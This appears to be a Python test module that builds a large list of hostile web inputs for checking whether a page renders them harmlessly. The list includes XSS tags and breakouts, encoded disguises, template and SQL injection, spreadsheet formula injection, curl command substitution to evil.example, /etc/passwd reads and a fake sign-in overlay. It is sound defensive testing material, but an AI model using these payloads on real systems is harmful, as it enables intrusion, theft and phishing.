"""Texts that strangers might send so that a page runs, loads or becomes something: varied by what they abuse (tags,
attributes, addresses, entities, styles, templates, directions, broken bytes), none of them twice. Two hundred and some
for every day, three hundred more (`more_payloads`) for the full run.

Every element that one of them would make carries `data-hit`, every script would pop up a dialog, every request would
go to evil.example: so that one success is seen in three ways.
"""

from __future__ import annotations

from itertools import product

from tests.browser.more_payloads import more

RUN = "alert(document.domain)"
EVIL = "evil.example"

_TAGS = (
    "<script data-hit>{run}</script>",
    "<script data-hit src=//{evil}/s.js></script>",
    "<img data-hit src=x onerror={run}>",
    "<img data-hit src=//{evil}/pixel.gif>",
    "<svg data-hit onload={run}>",
    "<svg data-hit><script>{run}</script></svg>",
    "<svg data-hit><animate onbegin={run} attributeName=x dur=1s>",
    "<svg data-hit><a xlink:href=javascript:{run}><text x=20 y=20>click</text></a></svg>",
    "<svg data-hit><use href=//{evil}/u.svg#x></use></svg>",
    "<svg data-hit><foreignObject><iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe></foreignObject></svg>",
    "<math data-hit><mi xlink:href=javascript:{run}>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img data-hit title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<iframe data-hit src=javascript:{run}></iframe>",
    "<iframe data-hit srcdoc='<script>{run}</script>'></iframe>",
    "<object data-hit data=//{evil}/o.swf></object>",
    "<embed data-hit src=javascript:{run}>",
    "<video data-hit><source onerror={run}></video>",
    "<audio data-hit src=x onerror={run}></audio>",
    "<body data-hit onload={run}>",
    "<details data-hit open ontoggle={run}>",
    "<marquee data-hit onstart={run}>x</marquee>",
    "<input data-hit autofocus onfocus={run}>",
    "<select data-hit autofocus onfocus={run}></select>",
    "<textarea data-hit autofocus onfocus={run}></textarea>",
    "<form data-hit action=//{evil}/><input type=submit></form>",
    "<form data-hit><button formaction=javascript:{run}>x</button></form>",
    "<base data-hit href=//{evil}/>",
    "<meta data-hit http-equiv=refresh content='0;url=//{evil}/'>",
    "<meta data-hit http-equiv=Content-Security-Policy content=''>",
    "<link data-hit rel=stylesheet href=//{evil}/c.css>",
    "<link data-hit rel=prefetch href=//{evil}/p>",
    "<style data-hit>@import '//{evil}/i.css';</style>",
    "<style data-hit>body{{background:url(//{evil}/b.png)}}</style>",
    "<div data-hit style=background:url(//{evil}/d.png)>",
    "<div data-hit style='position:fixed;inset:0;z-index:9999'>Your session ended: sign in</div>",
    "<a data-hit href=javascript:{run}>Join the meeting</a>",
    "<a data-hit href='data:text/html,<script>{run}</script>'>Agenda</a>",
    "<a data-hit href=//{evil}/ target=_blank>Reschedule</a>",
    "<table data-hit background=//{evil}/t.png><td>x</table>",
    "<isindex data-hit type=image src=x onerror={run}>",
    "<template data-hit><script>{run}</script></template>",
    "<noscript><p title='</noscript><img data-hit src=x onerror={run}>'>",
    "<portal data-hit src=//{evil}/></portal>",
    "<dialog data-hit open>Confirm</dialog>",
    "<x data-hit onclick={run} tabindex=1 autofocus onfocus={run}>x</x>",
)
_BREAKOUTS = (
    '"><img data-hit src=x onerror={run}>',
    "'><img data-hit src=x onerror={run}>",
    "</title><script data-hit>{run}</script>",
    "</textarea><script data-hit>{run}</script>",
    "</script><script data-hit>{run}</script>",
    "</style><script data-hit>{run}</script>",
    "--><script data-hit>{run}</script>",
    "]]><script data-hit>{run}</script>",
    '" onmouseover={run} autofocus onfocus={run} data-hit x="',
    "' onfocus={run} autofocus data-hit x='",
    "` onfocus={run} data-hit x=`",
    "\"}}' hx-get=//{evil}/ hx-trigger=load data-hit x='{{\"",
    '" hx-on:load={run} data-hit "',
    "</option></select><img data-hit src=x onerror={run}>",
    "*/</style><img data-hit src=x onerror={run}>",
    "<!--><img data-hit src=x onerror={run}>",
    "<![CDATA[><img data-hit src=x onerror={run}>]]>",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{{ visit.context.vault }}",
    "{{ self._TemplateReference__context }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(person)s %s %d",
    "{0.__class__}",
    "$(curl evil.example)",
    "`curl evil.example`",
    '=HYPERLINK("http://evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "' OR 1=1; DROP TABLE interviews; --",
)
_DISGUISES = (
    "<scr<script>ipt data-hit>{run}</script>",
    "<SCRIPT DATA-HIT>{run}</SCRIPT>",
    "<script\x0bdata-hit>{run}</script>",
    "<script/data-hit>{run}</script>",
    "<script\ndata-hit\n>{run}</script>",
    "<img data-hit src=`x` onerror={run}>",
    "<img data-hit/src=x/onerror={run}>",
    "<img data-hit src=x onerror\n=\n{run}>",
    "<img data-hit src=x onerror='&#97;lert(1)'>",
    "&lt;script data-hit&gt;{run}&lt;/script&gt;",
    "&#60;script data-hit&#62;{run}&#60;/script&#62;",
    "&amp;lt;script data-hit&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "%3Cscript data-hit%3E{run}%3C/script%3E",
    "\\u003cscript data-hit\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript data-hit\\x3e{run}\\x3c/script\\x3e",
    "+ADw-script data-hit+AD4-{run}+ADw-/script+AD4-",
    "＜script data-hit＞{run}＜/script＞",
    "<ſcript data-hit>{run}</ſcript>",
    "<img data-hit src=x:x onerror={run} //",
    "<script data-hit>{run}",
    "<img data-hit src=x onerror={run}",
    "<<script data-hit>{run}//<</script>",
    "<a data-hit href='java\tscript:{run}'>x</a>",
    "<a data-hit href='&#x6a;avascript:{run}'>x</a>",
    "<a data-hit href=' \x01javascript:{run}'>x</a>",
    "<a data-hit href=vbscript:msgbox(1)>x</a>",
    "[x](javascript:{run})",
    "![x](//{evil}/md.png)",
    "javascript:{run}",
    "http://{evil}/join?next=javascript:{run}",
    "https://meet.example.com@{evil}/",
    "file:///etc/passwd",
)
_BYTES = (
    "\u202egnp.ecioVni\u202c <img data-hit src=x onerror={run}>",
    "\u2066\u2067<b data-hit>right to left\u2069\u2069",
    "zero\u200bwidth<\u200bscript data-hit>{run}</script>",
    "\ufeff<script data-hit>{run}</script>",
    "line\u2028separator<script data-hit>{run}</script>",
    "Z" + "\u0353\u0322\u0344" * 60 + " <i data-hit>",
    "tab\there <b data-hit onclick={run}>",
    "bell\x07 escape\x1b[31m <b data-hit>",
    "A" * 300 + "<b data-hit>",
    "𝕒𝕝𝕖𝕣𝕥 <b data-hit>",
)
_HANDLERS = (
    "onpointerover onpointerenter onanimationstart ontransitionend onscroll onresize onhashchange onpageshow onwheel "
    "oncopy onpaste onbeforeinput ontouchstart oncontextmenu onkeydown onsecuritypolicyviolation onauxclick ondragstart"
).split()
_HOLDERS = ("div", "p", "a", "svg", "math")


def payloads(*, is_whole: bool = False) -> list[str]:
    """All of them, in a fixed order; `is_whole` with those of the full run."""
    written = [*_TAGS, *_BREAKOUTS, *_DISGUISES, *_BYTES]
    handled = [
        f"<{holder} data-hit {handler}={{run}} tabindex=0 style=animation-name:x>x"
        for holder, handler in product(_HOLDERS, _HANDLERS)
    ]
    filled = [one.replace("{{", "{").replace("}}", "}") for one in written + handled]
    found = [one.replace("{run}", RUN).replace("{evil}", EVIL) for one in (*filled, *(more() if is_whole else ()))]
    return list(dict.fromkeys([*found, *_TEMPLATES]))
